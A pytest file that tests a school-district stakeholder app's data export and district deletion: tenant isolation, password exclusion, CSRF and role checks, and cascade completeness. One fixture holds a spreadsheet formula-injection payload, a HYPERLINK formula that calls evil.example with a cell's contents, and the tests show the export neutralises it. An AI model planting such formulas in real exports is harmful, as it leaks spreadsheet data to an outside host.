"""District data (SECURITY.md: export all of it, have it deleted; items 3, 6, 22-25): the
export ZIP holds every district-owned table, only this district's rows, safe cells and no
passwords; deleting the district leaves no row with its id in any table."""

import csv
import io
import logging
import re
import zipfile
from datetime import date

import pytest
import sqlalchemy as sa

from app import tenancy
from app.domain.csv_export import FORMULA_START
from app.extensions import db
from app.models import (
    Affiliation,
    AuditEvent,
    ChampionProfile,
    Commitment,
    Concern,
    CsvImport,
    District,
    DistrictSetting,
    FollowUp,
    GlossaryTerm,
    Interaction,
    InteractionParticipant,
    KeyMessage,
    Membership,
    NetworkJob,
    OutreachList,
    OutreachMember,
    OutreachStatusChange,
    Partnership,
    PartnershipStageChange,
    Pathway,
    Relationship,
    Stakeholder,
    StakeholderMetrics,
    TableSeat,
    User,
)
from app.services import district_data as data_svc
from app.services import stakeholders as svc

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DATA_PAGES = ["/settings/data", "/settings/data/export.zip", "/settings/data/delete"]


def _person(name: str, kind: str = "person", **fields) -> Stakeholder:
    s = Stakeholder(name=name, kind=kind, **fields)
    svc.rate(db.session, s, svc.Ratings(4, 4, "neutral", "supportive", True, True, False),
             by_user_id=None)
    return s


def _added(row):
    db.session.add(row)
    db.session.flush()
    return row


def _seed(app, district, user_id: int, marker: str) -> None:
    """A row in every table the district owns (audit events come with them), each name
    carrying `marker`, some of them text a spreadsheet would run as a formula."""
    with app.app_context(), tenancy.district_context(district.id):
        ana = _person(f"{marker} Ana", notes=FORMULA, phone="+1 555 0100")
        org = _person(f"{marker} Works", kind="organisation", sector="@SUM(A1)")
        svc.set_labels(db.session, ana, tags=[f"{marker} PTA"], schools=[f"{marker} Elem"],
                       languages=["Spanish"])
        _added(Affiliation(person_id=ana.id, organisation_id=org.id, title="-2+3"))
        low, high = sorted((ana.id, org.id))
        _added(Relationship(source_id=low, target_id=high, type="colleague", strength=3))
        meeting = _added(Interaction(kind="meeting", title=f"{marker} roundtable",
                                     occurred_on=date(2026, 3, 9),
                                     users=[db.session.get(User, user_id)]))
        _added(InteractionParticipant(interaction_id=meeting.id, stakeholder_id=ana.id,
                                      occurred_on=date(2026, 3, 9)))
        _added(Concern(interaction_id=meeting.id, theme="grading", text="\tTranscripts?"))
        _added(FollowUp(interaction_id=meeting.id, stakeholder_id=ana.id,
                        description="Call back", due_on=date(2026, 3, 16), owner_id=user_id))
        _added(KeyMessage(audience="parent", text=f"{marker} message"))
        _added(GlossaryTerm(term=f"{marker} personalized learning", avoid="adaptive"))
        lst = _added(OutreachList(name=f"{marker} list", owner_id=user_id))
        member = _added(OutreachMember(list_id=lst.id, stakeholder_id=ana.id))
        _added(OutreachStatusChange(member_id=member.id, from_status="to_contact",
                                    to_status="contacted", changed_by_id=user_id))
        pathway = _added(Pathway(name=f"{marker} Health", keywords="health"))
        partnership = _added(Partnership(organisation_id=org.id, title=f"{marker} interns",
                                         pathway_id=pathway.id, contacts=[ana]))
        _added(Commitment(partnership_id=partnership.id, quantity=20, description="places"))
        _added(PartnershipStageChange(partnership_id=partnership.id, to_stage="exploring"))
        _added(ChampionProfile(stakeholder_id=ana.id, respected=True))
        _added(TableSeat(stakeholder_id=ana.id, body="advisory_board"))
        _added(DistrictSetting(key="contact_cadence", value={"key_players": 30}))
        job = _added(NetworkJob(status="done"))
        _added(StakeholderMetrics(job_id=job.id, stakeholder_id=ana.id, degree=1))
        _added(CsvImport(created_by_id=user_id, filename=f"{marker}.csv",
                         content="Name\nAna\n", mapping=["name"], report=[]))
        db.session.commit()


def _admin_of(app, make_user, auth, district, also=(), email="admin@example.org") -> int:
    """Sign in an admin of `district` who is also an editor in the districts `also`."""
    user_id = make_user(email, "admin", district)
    with app.app_context():
        for other in also:
            db.session.add(Membership(user_id=user_id, district_id=other.id, role="editor"))
        db.session.commit()
    assert auth.login(email).status_code == 302
    return user_id


def _owned(table: sa.Table, district_id: int):
    """The rows of `table` that belong to the district, worked out here from the metadata
    (not by the code under test): by district_id, or through a row that has one."""
    if table.name == "districts":
        return table.c.id == district_id
    if "district_id" in table.c:
        return table.c.district_id == district_id
    links = [fk for fk in table.foreign_keys if "district_id" in fk.column.table.c]
    if not links:
        return None
    return sa.or_(*(fk.parent.in_(sa.select(fk.column).where(
        fk.column.table.c.district_id == district_id)) for fk in links))


def _rows_of(app, district_id: int) -> dict[str, list]:
    """Every row of the district, table by table, reflecting over db.metadata."""
    found = {}
    with app.app_context(), tenancy.unscoped():
        for table in db.metadata.sorted_tables:
            where = _owned(table, district_id)
            if where is not None:
                found[table.name] = db.session.execute(
                    sa.select(table).where(where).order_by(*table.primary_key.columns)).all()
    return found


def _zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.data))


def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    text = archive.read(name).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def two_districts(app, make_user, district, other_district):
    """Both districts seeded with a row in every table; a viewer in each."""
    viewer_a = make_user("viewer.a@example.org", "viewer", district)
    viewer_b = make_user("viewer.b@example.org", "viewer", other_district)
    _seed(app, district, viewer_a, "Northwood")
    _seed(app, other_district, viewer_b, "Riverside")
    return viewer_a, viewer_b


# --- Export --------------------------------------------------------------------------


def test_export_is_a_dated_zip_attachment_with_a_csv_per_district_owned_table(
        app, client, auth, make_user, district, two_districts):
    _admin_of(app, make_user, auth, district)
    response = client.get("/settings/data/export.zip")
    assert response.is_streamed
    assert response.mimetype == "application/zip"
    assert re.fullmatch(r'attachment; filename="northwood-unified-data-\d{4}-\d\d-\d\d\.zip"',
                        response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    archive = _zip(response)
    assert archive.testzip() is None
    names = set(archive.namelist())
    # Every table of the metadata with a district_id column, so a new one is caught.
    owned = [t for t in db.metadata.sorted_tables if "district_id" in t.c]
    assert len(owned) > 20
    for table in owned:
        name = "members.csv" if table.name == "memberships" else f"{table.name}.csv"
        assert name in names, f"{table.name} is missing from the export"
        assert _csv(archive, name), f"{name} is empty though the district has rows"
    assert {"district.csv", "README.txt", "stakeholder_tags.csv", "stakeholder_schools.csv",
            "interaction_users.csv", "partnership_contacts.csv"} <= names
    # Only user accounts are left out (members.csv lists the district's members).
    assert data_svc.not_exported() == {"users"}
    assert len(names) == len(db.metadata.tables)  # every table but users, and README.txt


def test_export_holds_only_this_districts_rows(app, client, auth, make_user, district,
                                               other_district, two_districts):
    _admin_of(app, make_user, auth, district, also=[other_district])
    archive = _zip(client.get("/settings/data/export.zip"))
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Northwood Ana" in everything
    assert b"Riverside" not in everything
    assert b"viewer.b@example.org" not in everything
    with app.app_context(), tenancy.district_context(district.id):
        ours = set(db.session.scalars(sa.select(Stakeholder.id)))
    for name in archive.namelist():
        if name == "README.txt":
            continue
        for row in _csv(archive, name):
            if "district_id" in row:
                assert row["district_id"] == str(district.id), name
            if "stakeholder_id" in row:
                assert int(row["stakeholder_id"]) in ours, name
    assert [r["name"] for r in _csv(archive, "district.csv")] == ["Northwood Unified"]


def test_members_are_exported_without_passwords_or_sessions(app, client, auth, make_user,
                                                            district, two_districts):
    _admin_of(app, make_user, auth, district)
    archive = _zip(client.get("/settings/data/export.zip"))
    members = _csv(archive, "members.csv")
    assert list(members[0]) == ["user_id", "name", "email", "role"]
    assert {(m["email"], m["role"]) for m in members} == {
        ("viewer.a@example.org", "viewer"), ("admin@example.org", "admin")}
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"argon2" not in everything
    assert b"password_hash" not in everything and b"session_version" not in everything


def test_exported_cells_are_safe_in_a_spreadsheet(app, client, auth, make_user, district,
                                                  two_districts):
    _admin_of(app, make_user, auth, district)
    archive = _zip(client.get("/settings/data/export.zip"))
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in _csv(archive, name):
                for value in row.values():
                    assert not value or value[0] not in FORMULA_START, (name, value)
    ana = next(r for r in _csv(archive, "stakeholders.csv") if r["name"] == "Northwood Ana")
    assert ana["notes"] == "'" + FORMULA  # kept whole, quotes and all, just neutralised
    assert ana["phone"] == "'+1 555 0100"
    assert ana["contact_permitted"] == "true"
    assert _csv(archive, "concerns.csv")[0]["text"] == "'\tTranscripts?"


def test_export_readme_lists_every_file_with_its_rows(app, client, auth, make_user, district,
                                                      two_districts):
    _admin_of(app, make_user, auth, district)
    archive = _zip(client.get("/settings/data/export.zip"))
    readme = archive.read("README.txt").decode("utf-8")
    assert "Northwood Unified" in readme and "admin@example.org" in readme
    for name in archive.namelist():
        if name != "README.txt":
            rows = len(_csv(archive, name))
            assert re.search(rf"^  {re.escape(name)} +{rows:,} rows?\b", readme, re.M), name
    assert "Not included: users" in readme


def test_export_writes_an_audit_row(app, client, auth, make_user, district, two_districts):
    admin_id = _admin_of(app, make_user, auth, district)
    client.get("/settings/data/export.zip").close()
    with app.app_context(), tenancy.district_context(district.id):
        event = db.session.scalars(sa.select(AuditEvent).where(
            AuditEvent.action == "export")).one()
    assert (event.record_type, event.record_id, event.actor_id) == (
        "District", district.id, admin_id)
    assert event.changes["stakeholders"] == 2 and event.changes["by"] == "admin@example.org"


@pytest.mark.parametrize("role", ["viewer", "editor"])
def test_viewers_and_editors_cannot_export_or_delete(app, client, auth, login_as, district,
                                                     two_districts, role):
    login_as(role)
    for url in DATA_PAGES:
        assert client.get(url).status_code == 403, url
    before = _rows_of(app, district.id)
    response = client.post("/settings/data/delete", data={
        "confirm_name": "Northwood Unified", "csrf_token": auth.csrf()})
    assert response.status_code == 403
    assert _rows_of(app, district.id) == before


@pytest.mark.parametrize("url", DATA_PAGES)
def test_anonymous_users_are_sent_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


def test_data_page_offers_the_export_and_the_delete_from_the_settings_nav(
        app, client, auth, make_user, district, two_districts):
    _admin_of(app, make_user, auth, district)
    page = client.get("/settings/data")
    assert page.status_code == 200
    assert '<a href="/settings/data" aria-current="page">Data</a>' in page.text
    assert 'href="/settings/data/export.zip"' in page.text
    assert 'href="/settings/data/delete"' in page.text
    assert "2 stakeholders, 1 relationship, 1 logged interaction" in page.text
    assert "<code>members.csv</code>" in page.text
    assert '<a href="/settings/data"' in client.get("/settings/users").text


# --- Delete --------------------------------------------------------------------------


def test_delete_page_says_what_goes_and_who_keeps_an_account(
        app, client, auth, make_user, district, other_district, two_districts):
    _admin_of(app, make_user, auth, district, also=[other_district])
    page = client.get("/settings/data/delete")
    assert page.status_code == 200
    counts = page.text.split('id="delete-counts"')[1].split("</ul>")[0]
    for phrase in ("2 stakeholders", "1 relationship", "1 logged interaction",
                   "1 outreach list", "1 partnership", "audit log entries"):
        assert phrase in counts
    members = page.text.split('id="delete-members"')[1].split("</p>")[0]
    assert "2 members lose access" in members
    assert "1 of them belongs to no other district: that account stays" in members
    assert "You will carry on in Riverside City Schools." in page.text


@pytest.mark.parametrize("typed", ["", "northwood unified", "Northwood", "Riverside City Schools"])
def test_a_wrong_name_deletes_nothing(app, client, auth, make_user, district, other_district,
                                      two_districts, typed):
    _admin_of(app, make_user, auth, district, also=[other_district])
    before = (_rows_of(app, district.id), _rows_of(app, other_district.id))
    response = client.post("/settings/data/delete", data={
        "confirm_name": typed, "csrf_token": auth.csrf(), "district_id": other_district.id})
    assert response.status_code == 422
    assert "Nothing was deleted." in response.text
    assert ("That is not this district&#39;s name" in response.text
            if typed else "Type the district&#39;s name to confirm" in response.text)
    assert (_rows_of(app, district.id), _rows_of(app, other_district.id)) == before


def test_deleting_needs_the_csrf_token(app, client, auth, make_user, district, two_districts):
    _admin_of(app, make_user, auth, district)
    before = _rows_of(app, district.id)
    response = client.post("/settings/data/delete", data={"confirm_name": "Northwood Unified"})
    assert response.status_code == 400
    assert _rows_of(app, district.id) == before


class _Lines(logging.Handler):
    def __init__(self):
        super().__init__()
        self.lines: list[str] = []

    def emit(self, record):
        self.lines.append(record.getMessage())


def test_deleting_leaves_no_row_with_the_districts_id(app, client, auth, make_user, district,
                                                      other_district, two_districts):
    viewer_a, _viewer_b = two_districts
    _admin_of(app, make_user, auth, district, also=[other_district])
    before = _rows_of(app, district.id)
    # The seed reaches every table but user accounts, so the check below covers them all.
    assert {name for name, rows in before.items() if not rows} == set()
    assert set(before) == {t.name for t in db.metadata.sorted_tables} - {"users"}
    others_before = _rows_of(app, other_district.id)
    lines = _Lines()
    app.logger.addHandler(lines)
    try:
        response = client.post("/settings/data/delete", data={
            "confirm_name": " Northwood Unified ", "csrf_token": auth.csrf()})
    finally:
        app.logger.removeHandler(lines)
    assert response.status_code == 302
    assert response.headers["Location"] == "/"

    with app.app_context(), tenancy.unscoped():
        for table in db.metadata.sorted_tables:
            if "district_id" in table.c:
                left = db.session.scalar(sa.select(sa.func.count()).select_from(table)
                                         .where(table.c.district_id == district.id))
                assert left == 0, f"{table.name} still has rows of the deleted district"
            for fk in table.foreign_keys:  # and no link row points at a deleted row
                gone = {getattr(r, fk.column.name) for r in before.get(fk.column.table.name, ())}
                if gone:
                    assert not db.session.scalar(sa.select(sa.func.count()).select_from(table)
                                                 .where(fk.parent.in_(gone))), table.name
        assert db.session.get(District, district.id) is None
        # Accounts stay: the viewer who was only in this district now belongs to none.
        assert db.session.get(User, viewer_a) is not None
        assert not db.session.scalars(sa.select(Membership).where(
            Membership.user_id == viewer_a)).all()
        if db.engine.dialect.name == "sqlite":  # the search index forgot them too
            db.session.execute(sa.text(
                "INSERT INTO stakeholder_fts(stakeholder_fts) VALUES ('integrity-check')"))
    assert all(not rows for rows in _rows_of(app, district.id).values())
    assert _rows_of(app, other_district.id) == others_before  # the other district intact

    page = client.get("/")  # moved on to the admin's other district, told what went
    assert "Riverside City Schools" in page.text
    assert ("Deleted Northwood Unified and everything in it: 2 stakeholders, "
            "1 relationship, 1 logged interaction") in page.text
    assert "Now working in Riverside City Schools." in page.text
    assert len(lines.lines) == 1
    logged = lines.lines[0]
    assert logged.startswith(f"district deleted: Northwood Unified (id {district.id}) by "
                             "admin@example.org")
    assert "2 stakeholders" in logged and "2 members lost access" in logged


def test_an_admin_with_no_other_district_ends_on_the_no_district_page(
        app, client, auth, make_user, district, two_districts):
    _admin_of(app, make_user, auth, district)
    response = client.post("/settings/data/delete", data={
        "confirm_name": "Northwood Unified", "csrf_token": auth.csrf()})
    assert response.headers["Location"] == "/no-district"
    page = client.get("/no-district")
    assert "Deleted Northwood Unified and everything in it" in page.text
    with app.app_context():
        assert db.session.get(District, district.id) is None
    assert client.get("/").headers["Location"] == "/no-district"


def test_a_delete_that_leaves_rows_behind_is_undone(app, client, auth, make_user, district,
                                                   two_districts, monkeypatch):
    """Were a table ever without its cascade, the check after the delete refuses it and
    the whole delete rolls back: never half a district."""
    _admin_of(app, make_user, auth, district)
    before = _rows_of(app, district.id)
    monkeypatch.setattr(data_svc, "leftover_rows", lambda _c, _d: {"stakeholders": 1})
    with pytest.raises(data_svc.DistrictNotEmptied):
        client.post("/settings/data/delete", data={
            "confirm_name": "Northwood Unified", "csrf_token": auth.csrf()})
    assert _rows_of(app, district.id) == before


def test_an_admin_of_one_district_cannot_delete_another(app, client, auth, make_user, district,
                                                        other_district, two_districts):
    _admin_of(app, make_user, auth, district, also=[other_district])  # only an editor there
    token = auth.csrf()
    switched = client.post(f"/districts/{other_district.id}/switch", data={"csrf_token": token})
    assert switched.status_code == 302
    before = (_rows_of(app, district.id), _rows_of(app, other_district.id))
    response = client.post("/settings/data/delete", data={
        "confirm_name": "Riverside City Schools", "csrf_token": token})
    assert response.status_code == 403
    assert client.get("/settings/data/export.zip").status_code == 403
    assert (_rows_of(app, district.id), _rows_of(app, other_district.id)) == before
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id)).where(
            AuditEvent.action == "export").execution_options(unscoped=True)) == 0


def test_a_delete_form_drawn_for_another_district_deletes_nothing(
        app, client, auth, make_user, district, other_district, two_districts):
    """Admin of both; the page was drawn for Northwood, then another tab switched to
    Riverside: the form names Northwood (app.js adds it), so the guard refuses it."""
    admin_id = _admin_of(app, make_user, auth, district)
    with app.app_context():
        db.session.add(Membership(user_id=admin_id, district_id=other_district.id,
                                  role="admin"))
        db.session.commit()
    token = auth.csrf()
    client.post(f"/districts/{other_district.id}/switch", data={"csrf_token": token})
    before = (_rows_of(app, district.id), _rows_of(app, other_district.id))
    response = client.post("/settings/data/delete", data={
        "confirm_name": "Northwood Unified", "csrf_token": token, "_district": district.id})
    assert response.status_code == 412
    response = client.post("/settings/data/delete", data={
        "confirm_name": "Northwood Unified", "csrf_token": token})
    assert response.status_code == 422  # the name is not the current district's
    assert (_rows_of(app, district.id), _rows_of(app, other_district.id)) == before


def test_the_export_reads_in_words_in_the_audit_log(
        app, client, auth, make_user, district, two_districts):
    """The export shows in the audit log in words: Exported, District, Northwood Unified."""
    _admin_of(app, make_user, auth, district)
    client.get("/settings/data/export.zip").close()
    log = " ".join(re.sub(r"<[^>]+>", " ", client.get("/settings/audit").text).split())
    assert "admin@example.org Exported District Northwood Unified" in log


def test_a_district_made_after_a_delete_never_sees_the_deleted_ones_cached_data(
        app, client, auth, make_district, make_user):
    """SQLite hands a deleted district's id (and its audit ids) to the next district made:
    nothing the app remembers of the old one may show in the new one."""
    old = make_district("Old District")
    _admin_of(app, make_user, auth, old)
    client.post("/stakeholders/new", data={
        "csrf_token": auth.csrf(), "name": "Zed Secret", "kind": "person", "group": "parent",
        "tags": "gone-tag", "influence": "5", "interest": "5", "engagement_current": "leading",
        "engagement_desired": "leading"})
    pages = ("/stakeholders/", "/champions/")
    for url in pages:  # each remembered by this process now
        page = client.get(url).text
        assert "Zed Secret" in page, url
    assert "gone-tag" in client.get("/stakeholders/").text
    client.post("/settings/data/delete", data={"confirm_name": "Old District",
                                               "csrf_token": auth.csrf()})
    auth.logout()
    new = make_district("New District")
    _admin_of(app, make_user, auth, new, email="new-admin@example.org")
    client.post("/stakeholders/new", data={
        "csrf_token": auth.csrf(), "name": "Amy New", "kind": "person", "group": "parent",
        "tags": "new-tag", "influence": "3", "interest": "3", "engagement_current": "neutral",
        "engagement_desired": "supportive"})
    page = client.get("/stakeholders/").text
    assert "Amy New" in page and "new-tag" in page
    assert "Zed Secret" not in page and "gone-tag" not in page
    for url in pages:
        assert "Zed Secret" not in client.get(url).text, url
